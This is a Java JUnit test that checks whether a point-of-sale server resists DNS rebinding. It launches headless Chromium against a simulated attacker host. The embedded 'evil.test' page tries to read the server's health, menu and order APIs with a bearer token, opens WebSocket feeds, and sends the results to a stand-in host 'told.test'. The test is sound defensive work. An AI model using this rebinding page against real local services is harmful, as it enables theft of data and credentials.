package docket.pos.server;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assumptions.assumeThat;

import docket.pos.RunningServer;
import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.net.URLDecoder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.io.TempDir;

/// DNS rebinding in a real browser. The page of `evil.test` comes from an address of its own; when
/// it asks again, the name leads to this server, as after another answer of the DNS.
@EnabledIfSystemProperty(
        named = Thoroughness.PROFILE,
        matches = "true",
        disabledReason = "starts a browser: mvn -Pstrangers verify")
final class RebindingTest {
    private static final String EVIL = "evil.test";
    private static final String EVIL_ADDRESS = "127.0.0.66";
    private static final int PATIENCE_SECONDS = 90;

    private static final String PAGE =
            """
            <!doctype html><title>evil</title><script>
            let told = '';
            const say = line => { told += line + '\\n'; };
            const ask = (name, what) => what.then(r => r.text())
                .then(text => say(name + ' READ ' + text)).catch(e => say(name + ' nothing'));
            const listen = (name, url) => new Promise(done => {
              const socket = new WebSocket(url);
              socket.onopen = () => { say(name + ' OPENED'); done(); };
              socket.onerror = () => { say(name + ' nothing'); done(); };
            });
            (async () => {
              await ask('rebound health', fetch('/api/health'));
              await ask('rebound menu', fetch('/api/menu', {headers: {Authorization: 'Bearer TOKEN'}}));
              await ask('rebound order', fetch('/api/orders', {method: 'POST', body: '{}',
                  headers: {Authorization: 'Bearer TOKEN', 'Content-Type': 'application/json'}}));
              await listen('rebound feed', 'ws://evil.test:PORT/api/events');
              await ask('cross health', fetch('http://127.0.0.1:PORT/api/health'));
              await ask('cross menu', fetch('http://127.0.0.1:PORT/api/menu',
                  {headers: {Authorization: 'Bearer TOKEN'}}));
              await listen('cross feed', 'ws://127.0.0.1:PORT/api/events');
              await fetch('http://told.test:PORT/told?' + encodeURIComponent(told), {mode: 'no-cors'});
            })();
            </script>
            """;

    @TempDir private Path folder = Path.of("");

    private static Optional<Path> browser() {
        return Stream.of("chromium", "chromium-browser", "google-chrome")
                .map(name -> Path.of("/usr/bin", name))
                .filter(Files::isExecutable)
                .findFirst();
    }

    /// The host of the page: the first connection gets the page, every later one the server.
    private static final class EvilHost implements AutoCloseable {
        private static final String TOLD = "GET /told?";

        private final ServerSocket door;
        private final String page;
        private final ExecutorService work = Executors.newVirtualThreadPerTaskExecutor();
        final AtomicInteger passedOn = new AtomicInteger();
        final CompletableFuture<String> told = new CompletableFuture<>();

        EvilHost(int port, String page) throws IOException {
            this.page = page;
            door = new ServerSocket(port, 50, InetAddress.ofLiteral(EVIL_ADDRESS));
            work.execute(this::serve);
        }

        private void serve() {
            try {
                while (true) {
                    Socket caller = door.accept();
                    work.execute(() -> answer(caller));
                }
            } catch (IOException closed) {
                assertThat(closed).isInstanceOf(SocketException.class);
            }
        }

        private void answer(Socket caller) {
            try (caller;
                    var server =
                            new Socket(InetAddress.getLoopbackAddress(), door.getLocalPort())) {
                var head = new byte[16 * 1024];
                int length = Math.max(0, caller.getInputStream().read(head));
                String request = new String(head, 0, length, UTF_8);
                if (request.startsWith(TOLD)) {
                    told.complete(
                            URLDecoder.decode(
                                    request.substring(TOLD.length(), request.indexOf(" HTTP/")),
                                    UTF_8));
                } else if (request.startsWith("GET / ")) {
                    byte[] body = page.getBytes(UTF_8);
                    String answer =
                            "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\nContent-Length: %d\r\n\r\n"
                                    .formatted(body.length);
                    caller.getOutputStream().write(answer.getBytes(UTF_8));
                    caller.getOutputStream().write(body);
                } else if (length > 0) {
                    passedOn.incrementAndGet();
                    server.getOutputStream().write(head, 0, length);
                    work.execute(() -> copy(caller, server));
                    server.getInputStream().transferTo(caller.getOutputStream());
                }
            } catch (IOException gone) {
                // The browser has hung up.
            }
        }

        private static void copy(Socket from, Socket to) {
            try {
                from.getInputStream().transferTo(to.getOutputStream());
            } catch (IOException gone) {
                // One of the two has hung up.
            }
        }

        @Override
        public void close() throws IOException {
            door.close();
            work.shutdownNow();
        }
    }

    private Process show(Path browser, int port) throws IOException {
        return new ProcessBuilder(
                        List.of(
                                browser.toString(),
                                "--headless",
                                "--no-sandbox",
                                "--disable-gpu",
                                "--no-proxy-server",
                                "--user-data-dir=" + folder.resolve("profile"),
                                "--host-resolver-rules=MAP *.test " + EVIL_ADDRESS,
                                "http://%s:%d/".formatted(EVIL, port)))
                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
                .redirectError(ProcessBuilder.Redirect.DISCARD)
                .start();
    }

    @Test
    void aPageThatIsReboundToThisServerReadsNothing() throws Exception {
        Optional<Path> browser = browser();
        assumeThat(browser).as("a Chromium on this machine: apt-get install chromium").isPresent();
        try (RunningServer server = RunningServer.on(folder.resolve("data"))) {
            int port = server.address().getPort();
            String page =
                    PAGE.replace("PORT", String.valueOf(port)).replace("TOKEN", server.token());
            try (var host = new EvilHost(port, page)) {
                Process shown = show(browser.orElseThrow(), port);
                String told = host.told.get(PATIENCE_SECONDS, TimeUnit.SECONDS);
                shown.destroy();
                assertThat(shown.waitFor(PATIENCE_SECONDS, TimeUnit.SECONDS)).isTrue();

                assertThat(host.passedOn.get()).as("rebound requests").isGreaterThanOrEqualTo(4);
                assertThat(told.lines().filter(line -> line.startsWith("rebound")))
                        .hasSize(4)
                        .allMatch(line -> line.endsWith("nothing") || line.contains("misdirected"));
                assertThat(told.lines().filter(line -> line.startsWith("cross")))
                        .hasSize(3)
                        .allMatch(line -> line.endsWith("nothing"));
                assertThat(told).doesNotContain("OPENED", "\"UP\"", "americano");
            }
        }
    }
}
